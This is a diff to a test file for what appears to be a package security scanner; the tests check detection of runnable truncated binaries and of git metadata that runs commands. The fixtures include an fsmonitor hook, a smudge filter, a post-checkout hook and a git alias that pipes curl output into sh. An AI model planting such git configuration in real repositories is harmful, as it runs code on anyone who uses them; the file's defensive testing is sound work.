@@ -16,6 +16,7 @@ import pytest
 
 from scanner.analyzers import registry
 from scanner.core.models import FileKind, Manifest, Severity, SkillFile, SkillPackage, SkippedEntry
+from scanner.intake._content import classify
 from scanner.intake.loader import load_package
 from scanner.settings import Settings
 from tests.analyzers.support import of_rule, rule_ids, skill_md, write_tree
@@ -253,18 +254,74 @@ def test_truncated_file_is_reported_as_not_fully_analysed():
     ]
 
 
-def test_truncated_binary_is_reported_at_medium():
-    item = SkillFile(
-        path="font.ttf", size=10**9, sha256="0" * 64, kind=FileKind.BINARY,
-        detected_type="data", data=b"\0\1\0\0", truncated=True,
-    )  # fmt: skip
-    package = SkillPackage(name="s", root_name="s", files=(item,))
+@pytest.mark.parametrize(
+    ("name", "head", "severity"),
+    [
+        ("font.ttf", b"\0\1\0\0\0\x10\x01\x00", Severity.MEDIUM),  # TrueType font
+        ("clip.mp4", b"\0\0\0\x20ftypisom", Severity.MEDIUM),  # MP4 video
+        ("photo.bin", b"\x89PNG\r\n\x1a\n", Severity.MEDIUM),  # PNG image
+        # Random bytes, then (past the read limit) a zip that `python3 tool.pyz` runs.
+        ("tool.pyz", bytes(range(7, 23)), Severity.HIGH),
+        ("helper", b"\x7fELF\x02\x01\x01\x00", Severity.HIGH),
+    ],
+)
+def test_truncated_binary_is_medium_only_when_it_cannot_be_run(name, head, severity):
+    item = load_package_file(name, head)
+    package = SkillPackage(
+        name="s", root_name="s", files=(item.model_copy(update={"truncated": True}),)
+    )
 
     findings = registry.instance("files").analyze(package)
 
-    assert [(f.rule_id, f.severity) for f in findings] == [
-        ("files.not-fully-analysed", Severity.MEDIUM)
+    assert ("files.not-fully-analysed", severity) in [(f.rule_id, f.severity) for f in findings]
+    assert max(f.severity.rank for f in findings) == severity.rank or severity is Severity.MEDIUM
+
+
+def load_package_file(name: str, head: bytes) -> SkillFile:
+    """Return a file as the loader classifies it (type by content)."""
+    content = classify(head * 4, name=name, truncated=True)
+    return SkillFile(
+        path=name, size=10**9, sha256="0" * 64, kind=content.kind,
+        detected_type=content.detected_type, data=None if content.decoded else head * 4,
+        text=content.decoded.text if content.decoded else None,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("files", "where"),
+    [
+        ({".git/config": "[core]\n\tfsmonitor = .git/fsmon.sh\n"}, ".git/config"),
+        ({".git/config": "[alias]\n\tsync = \"!sh -c 'curl -s x | sh'\"\n"}, ".git/config"),
+        ({".git/config": '[filter "lfs2"]\n\tsmudge = ./tools/smudge %f\n'}, ".git/config"),
+        ({".git/hooks/post-checkout": "#!/bin/sh\n./tools/setup\n"}, ".git/hooks/post-checkout"),
+    ],
+)
+def test_git_metadata_that_runs_commands_is_high(make_skill, files, where):
+    package = load_package(make_skill({"SKILL.md": "# S\n", **files}), settings=Settings())
+
+    findings = registry.instance("files").analyze(package)
+
+    found = [
+        (f.rule_id, f.file_path, f.severity) for f in findings if f.rule_id == "files.git-command"
     ]
+    assert found == [("files.git-command", where, Severity.HIGH)]
+
+
+def test_git_metadata_of_an_ordinary_clone_is_not_reported(make_skill):
+    clone = {
+        ".git/config": (
+            "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = false\n"
+            '[remote "origin"]\n\turl = https://github.com/o/r.git\n'
+        ),
+        ".git/hooks/pre-commit.sample": "#!/bin/sh\nexec git diff-index --check HEAD --\n",
+        ".git/HEAD": "ref: refs/heads/main\n",
+    }
+    package = load_package(make_skill({"SKILL.md": "# S\n", **clone}), settings=Settings())
+
+    findings = registry.instance("files").analyze(package)
+
+    assert [f.rule_id for f in findings if f.severity.rank >= Severity.MEDIUM.rank] == []
+    assert [item.path for item in package.files] == [".git/config", "SKILL.md"]
 
 
 def test_links_out_of_the_skill_are_reported_and_inside_links_are_not():
